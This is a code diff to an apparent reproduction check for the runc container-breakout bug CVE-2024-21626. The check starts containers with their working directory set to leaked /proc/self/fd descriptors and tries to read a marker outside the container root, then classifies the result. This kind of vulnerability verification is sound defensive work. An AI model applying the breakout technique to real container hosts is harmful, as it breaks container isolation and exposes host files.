@@ -22,8 +22,9 @@ import (
 func init() { kit.Register(cve202421626) }
 
 // leakedFDs are the descriptors tried as the working directory: which one
-// the leaked handle gets depends on runc's opening order (7 under Docker).
-var leakedFDs = []int{3, 4, 5, 6, 7, 8, 9, 10}
+// the leaked handle gets depends on runc's opening order (7 here and
+// under Docker); runc init holds no descriptor above 8 here.
+var leakedFDs = []int{3, 4, 5, 6, 7, 8}
 
 // breakoutRefused is what 1.1.12's check after chdir says.
 const breakoutRefused = "possible container breakout detected"
@@ -48,7 +49,7 @@ var cve202421626 = &kit.Bug{
 	FirstFixed:   "1.1.12",
 	Sampling: report.Sampling{Deterministic: true,
 		Why:   "the leaked descriptor is opened the same way on every start: one container per candidate descriptor decides",
-		Fresh: "a control and one container per candidate descriptor (3 to 10) in a fresh runc state root, a fresh marker (~3 s)"},
+		Fresh: "a control and one container per candidate descriptor (3 to 8) in a fresh runc state root, a fresh marker (~3 s)"},
 	Control:  func(ctx context.Context, r *kit.Run) (kit.Observation, error) { return reach(ctx, r, nil) },
 	Trigger:  func(ctx context.Context, r *kit.Run) (kit.Observation, error) { return reach(ctx, r, leakedFDs) },
 	Classify: classify,
@@ -64,13 +65,13 @@ func reach(ctx context.Context, r *kit.Run, fds []int) (kit.Observation, error) 
 	}
 	// Enough ".." to reach / from the leaked directory (/sys/fs/cgroup, or
 	// a cgroup below it), then the marker.
-	rel := strings.Repeat("../", 8) + strings.TrimPrefix(marker, "/")
+	rel := strings.Repeat("../", 5) + strings.TrimPrefix(marker, "/")
 	try := func(name, cwd, label string) (kit.Container, error) {
 		return r.Container(ctx, name, label, []string{"read=" + rel},
 			func(s *specs.Spec) { s.Process.Cwd = cwd })
 	}
 	if fds == nil {
-		c, err := try("control", "/", "control: process.cwd=/ reads the same relative path")
+		c, err := try("control", "/", "control, cwd /")
 		c.Facts = map[string]string{"marker": markerSeen(c, rel, token)}
 		return c.Observation, err
 	}
@@ -79,7 +80,7 @@ func reach(ctx context.Context, r *kit.Run, fds []int) (kit.Observation, error) 
 	reached := 0
 	for _, fd := range fds {
 		cwd := fmt.Sprintf("/proc/self/fd/%d", fd)
-		c, err := try(fmt.Sprintf("fd%d", fd), cwd, "trigger: process.cwd="+cwd)
+		c, err := try(fmt.Sprintf("fd%d", fd), cwd, fmt.Sprintf("trigger, cwd fd %d", fd))
 		if err != nil {
 			return obs, err
 		}
@@ -143,9 +144,9 @@ func classify(control, trigger kit.Observation) kit.Verdict {
 	if trigger.Fact("reached") == "0" {
 		return kit.Verdict{Result: report.Inconclusive, Reason: "no trigger container got as far as its working directory (evidence \"trigger: tries\" says what runc said)"}
 	}
-	reason := fmt.Sprintf("no container started from /proc/self/fd/N (N = %d..%d) reached the marker outside its root", leakedFDs[0], leakedFDs[len(leakedFDs)-1])
+	reason := fmt.Sprintf("no container started from /proc/self/fd/%d..%d reached the marker outside its root", leakedFDs[0], leakedFDs[len(leakedFDs)-1])
 	if via := trigger.Fact("refused"); via != "" {
 		return kit.Verdict{Result: report.NotReproduced, Reason: reason + fmt.Sprintf("; runc refused process.cwd=%s: %q", via, breakoutRefused)}
 	}
-	return kit.Verdict{Result: report.NotReproduced, Reason: reason + ": runc init could use none of them as its working directory (no host directory leaked)"}
+	return kit.Verdict{Result: report.NotReproduced, Reason: reason + ": no host directory leaked into runc init"}
 }
